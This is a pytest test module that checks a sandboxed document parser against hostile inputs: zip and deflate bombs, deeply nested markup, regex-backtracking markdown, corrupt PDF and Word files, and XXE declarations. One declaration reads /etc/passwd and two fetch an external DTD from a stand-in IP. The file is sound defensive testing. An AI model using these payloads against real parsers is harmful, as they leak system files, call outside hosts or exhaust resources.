"""Hostile files, made here and parsed in one child: each ends as documented, and the next works."""

import asyncio
import random
import zipfile
import zlib

import pytest

from core.errors.requests import EmptyFile, UnsupportedFileType
from ingestion.parsers.errors import ParseFailure
from ingestion.parsers.file_type import HEAD_BYTES, detect_type
from ingestion.parsers.image.ocr import is_ready
from ingestion.parsers.limits import ParseLimits
from ingestion.parsers.sandbox.client import ParserChild
from tests.fixtures.files.hostile_documents import GOOD_SECONDS
from tests.fixtures.paths import PARSER_DATA

pytestmark = pytest.mark.anyio
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
LIMITS = ParseLimits(seconds=30)


@pytest.fixture(scope="module")
async def child(anyio_backend):
    child = ParserChild()
    yield child
    await child.close()


async def outcome(child, path):
    """The reason of a failure, or the result, with what the upload check says before."""
    with path.open("rb") as file:
        head = file.read(HEAD_BYTES)
    media = detect_type(path.name, head, path.stat().st_size)
    try:
        parsed = await child.parse(path, media.name, limits=LIMITS)
    except ParseFailure as failure:
        return failure.reason.value
    assert parsed.text
    assert "\x00" not in parsed.text
    return parsed


def put(folder, name, content):
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def word(folder, name, body, *, prolog='<?xml version="1.0"?>', more=()):
    path = folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f"{prolog}<w:document {W}><w:body>{body}</w:body></w:document>")
        for part, content in more:
            archive.writestr(part, content)
    return path


def run(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


async def assert_fine_afterwards(child, folder):
    async with asyncio.timeout(GOOD_SECONDS):
        parsed = await outcome(child, word(folder, "ok.docx", run("fine")))
    assert parsed.text == "fine"


BOMBS = {
    "bomb_text.docx": lambda f, n: word(f, n, run("a" * 64_000_000)),
    "bomb_paras.docx": lambda f, n: word(f, n, run("a") * 1_000_000),
    "bomb_media.docx": lambda f, n: word(f, n, run("x"), more=[("word/media/1.bin", bytes(60_000_000))]),
    "many.docx": lambda f, n: word(f, n, run("x"), more=[(f"m/{i}", b"") for i in range(20_000)]),
}


@pytest.mark.parametrize("name", BOMBS)
async def test_archive_bomb_is_refused_before_it_is_unpacked(name, child, tmp_path):
    assert await outcome(child, BOMBS[name](tmp_path, name)) == "archive_limits"
    await assert_fine_afterwards(child, tmp_path)


DECLARATIONS = {
    "xxe.docx": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "xxe_param.docx": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    "dtd.docx": '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">',
    "lol.docx": '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
}


@pytest.mark.parametrize("name", DECLARATIONS)
@pytest.mark.parametrize("padding", [0, 100_000])
async def test_document_type_is_refused(name, padding, child, tmp_path):
    prolog = f'<?xml version="1.0"?><!--{" " * padding}-->{DECLARATIONS[name]}'
    path = word(tmp_path, name, run("text &x;"), prolog=prolog)
    assert await outcome(child, path) == "unsafe_xml"


async def test_document_type_in_another_encoding_is_refused(child, tmp_path):
    path = tmp_path / "utf16.docx"
    xml = f'<?xml version="1.0" encoding="UTF-16"?>{DECLARATIONS["xxe.docx"]}<w:d {W}>&x;</w:d>'
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", xml.encode("utf-16"))
    assert await outcome(child, path) == "unsafe_xml"


TOO_COMPLEX = {
    "deep.html": "<div>" * 50_000 + "x" + "</div>" * 50_000,
    "lists.html": "<ul><li>a" * 50_000,
    "fonts.html": "".join(f"<font size={n}>" for n in range(20_000)) + "<p>a" * 20_000,
    "attributes.html": "<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">x",
    "deep.json": "[" * 100_000 + "]" * 100_000,
    "deep.jsonl": '{"a":' * 100_000 + "1" + "}" * 100_000,
}


@pytest.mark.parametrize("name", TOO_COMPLEX)
async def test_nesting_beyond_bounds_fails_as_too_complex(name, child, tmp_path):
    assert await outcome(child, put(tmp_path, name, TOO_COMPLEX[name])) == "too_complex"
    await assert_fine_afterwards(child, tmp_path)


@pytest.mark.parametrize("tag", ["w:tbl><w:tr><w:tc", "w:sdt><w:sdtContent", "w:ins"])
async def test_nested_word_file_fails_as_too_complex(tag, child, tmp_path):
    names = tag.split("><")
    body = "".join(f"<{n}>" for n in names) * 30_000 + run("x")
    body += "".join(f"</{n}>" for n in reversed(names)) * 30_000
    assert await outcome(child, word(tmp_path, "deep.docx", body)) == "too_complex"


TEXT_KEPT = {
    "deep.md": "> " * 20_000 + "*a " * 20_000,
    "stairs.md": "".join("> " * n + "a\n" for n in range(1, 190)),
    "redos.md": "\n\n".join(["[" * 30_000, "`" * 30_000, "<" * 30_000, "![" * 60_000]),
    "links.md": "[a][" * 60_000,
    "ticks.md": " ".join("`" * n for n in range(1, 300)),
    "bars.md": "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|a\n" * 20_000,
    "lists.md": "- " * 20_000 + "a",
    "references.md": "\n".join(f"[a{n}]: x" for n in range(20_000)) + "\n\ntext",
    "angles.html": "<" * 1_000_000 + "p",
    "spaces.html": "<p>a" + " \n" * 1_000_000 + "b",
    "deep_path.json": '{"a":' * 900 + "1" + "}" * 900,
    "quote.csv": '"' + "a,b\n" * 300_000,
    "marks.txt": "e" + "\u0301" * 1_000_000,
    "blank_lines.txt": "a" + "\n" * 2_000_000 + "b",
    "spaces.txt": "a" + " " * 4_000_000 + "b",
}


@pytest.mark.parametrize("name", TEXT_KEPT)
async def test_text_built_against_backtracking_is_still_read(name, child, tmp_path):
    limits = ParseLimits(seconds=30)
    path = put(tmp_path, name, TEXT_KEPT[name])
    media = detect_type(name, path.read_bytes()[:HEAD_BYTES], path.stat().st_size)
    assert (await child.parse(path, media.name, limits=limits)).text


@pytest.mark.parametrize("megabytes", [16, 64])
async def test_huge_line_is_read(megabytes, child, tmp_path):
    line = "知识 word " * (megabytes * 2**20 // 12)
    parsed = await outcome(child, put(tmp_path, "huge_line.txt", line))
    # Not compared within the assertion: its report would be longer still.
    is_same = parsed.text == line.strip()
    assert is_same
    await assert_fine_afterwards(child, tmp_path)


async def test_huge_line_of_values_is_read(child, tmp_path):
    values = await outcome(child, put(tmp_path, "huge_line.csv", "a,b," * (8 * 2**20 // 4)))
    assert values.text.startswith("a | b | a")
    assert values.text.count("b") == 2 * 2**20
    await assert_fine_afterwards(child, tmp_path)


async def test_nul_bad_utf8_and_bidi_text_is_read_and_clean(child, tmp_path):
    nul = await outcome(child, put(tmp_path, "nul.txt", "知识\0库 word\0 " * 50))
    assert nul.text == ("知识库 word " * 50).strip()
    bad = await outcome(child, put(tmp_path, "bad.txt", "知识库 ".encode() * 30 + b"\xff\xfe\xfd"))
    assert bad.text.startswith("知识库 知识库")
    assert bad.warnings == ("encoding",)
    bidi = await outcome(child, put(tmp_path, "bidi.txt", "a\u202eb\u2066c\u200bd\ufeff\U000e0041"))
    assert bidi.text == "a\u202eb\u2066c\u200bd\ufeff\U000e0041"


async def test_blank_and_binary_files_are_refused_before_a_child_sees_them(child, tmp_path):
    with pytest.raises(EmptyFile):
        await outcome(child, put(tmp_path, "ws.txt", " \n\t" * 1000))
    with pytest.raises(UnsupportedFileType):
        await outcome(child, put(tmp_path, "exe.txt", b"MZ" + random.Random(1).randbytes(9000)))
    one = await outcome(child, put(tmp_path, "one.txt", "x"))
    assert one.text == "x"


async def test_blanks_beyond_the_head_fail_as_empty_text(child, tmp_path):
    assert await outcome(child, put(tmp_path, "ws.md", " \n" * 50_000)) == "empty_text"


HANDBOOK = PARSER_DATA / "handbook.pdf"


def pdf(body, root="1 0 R"):
    return f"%PDF-1.4\n{body}trailer<</Root {root}>>\nstartxref\n0\n%%EOF\n".encode()


def deflated_page(length):
    stream = zlib.compress(b"BT /F 9 Tf (a) Tj ET " * (length // 21), 9)
    head = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>endobj\n"
    )
    size = b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    tail = b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    return head + size + stream + tail


def pdf_page():
    return pdf(
        "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources"
        "<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n"
        "4 0 obj<</Length 29>>stream\nBT /F 9 Tf 9 9 Td (ab) Tj ET \nendstream\nendobj\n"
    )


async def test_small_hand_made_pdf_is_read_when_whole(child, tmp_path):
    assert (await outcome(child, put(tmp_path, "whole.pdf", pdf_page()))).text == "ab"


CORRUPT = {
    "trunc.pdf": lambda: HANDBOOK.read_bytes()[:2500],
    "noxref.pdf": lambda: HANDBOOK.read_bytes().split(b"xref\n")[0],
    "selfref.pdf": lambda: pdf(
        "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    ),
    "no_end.pdf": lambda: pdf_page().split(b"startxref")[0],
    "no_pages.pdf": lambda: pdf("1 0 obj<</Type/Catalog>>endobj\n"),
    "header_only.pdf": lambda: b"%PDF-1.4\n",
    "cut.docx": lambda: (PARSER_DATA / "operations.docx").read_bytes()[:9000],
    "no_document.docx": lambda: b"PK\x05\x06" + bytes(18),
    "old_word.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
    "broken.json": lambda: b'{"a": [1, 2',
}


@pytest.mark.parametrize("name", CORRUPT)
async def test_damaged_file_fails_as_corrupt(name, child, tmp_path):
    assert await outcome(child, put(tmp_path, name, CORRUPT[name]())) == "corrupt_file"
    await assert_fine_afterwards(child, tmp_path)


async def test_encrypted_word_file_fails_as_password_protected(child, tmp_path):
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
    content += "EncryptedPackage".encode("utf-16-le") + bytes(2048)
    assert await outcome(child, put(tmp_path, "locked.docx", content)) == "password_protected"
    assert await outcome(child, PARSER_DATA / "locked.pdf") == "password_protected"
    scanned = await outcome(child, PARSER_DATA / "scanned.pdf")
    assert scanned == ("empty_text" if is_ready() else "no_text_layer")


async def test_deflated_pdf_bomb_ends_within_bounds(child, tmp_path):
    path = put(tmp_path, "flatebomb.pdf", deflated_page(8_000_000))
    result = await outcome(child, path)
    assert result in ("parse_timeout", "parse_memory", "empty_text") or result.pages == 1
    await assert_fine_afterwards(child, tmp_path)


async def test_pdf_of_ten_thousand_pages_is_refused(child, tmp_path):
    kids = " ".join(f"{n} 0 R" for n in range(3, 10_003))
    body = "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += f"2 0 obj<</Type/Pages/Kids[{kids}]/Count 10000>>endobj\n"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    body += "".join(f"{n} 0 obj{page}endobj\n" for n in range(3, 10_003))
    assert await outcome(child, put(tmp_path, "pages10k.pdf", pdf(body))) == "too_many_pages"
